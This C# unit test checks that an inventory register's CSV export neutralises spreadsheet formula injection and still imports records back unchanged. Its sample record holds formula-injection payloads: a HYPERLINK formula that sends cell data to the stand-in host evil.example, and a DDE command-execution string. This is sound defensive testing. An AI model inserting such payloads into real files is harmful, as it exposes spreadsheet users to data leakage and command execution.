using Federation.Inventory.Import;
using Federation.Inventory.Tests.Support;

namespace Federation.Inventory.Tests.Import;

/// <summary>The register's CSV export is opened in spreadsheets: no cell may run as a formula, and export → import still changes nothing.</summary>
public sealed class RegisterCsvTests
{
    [Fact]
    public void A_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text_and_imports_back_unchanged()
    {
        var hostile = Samples.System("formel") with
        {
            Name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Öppna\")",
            Description = "+cmd|' /C calc'!A0",
            Vendor = "@SUM(1+1)",
            Owner = "-2+3",
        };

        var csv = RegisterCsv.Write([hostile]);

        var cells = RegisterCsv.ReadRecords(csv)[1];
        Assert.All(cells, cell => Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@', $"'{cell}' starts a formula"));

        var (rows, errors) = RegisterCsv.Parse(csv);
        Assert.Empty(errors);
        var imported = rows.Single().Build(hostile);
        Assert.Equal(hostile.Name, imported.Name);
        Assert.Equal(hostile.Description, imported.Description);
        Assert.Equal(hostile.Vendor, imported.Vendor);
        Assert.Equal(hostile.Owner, imported.Owner);
    }
}
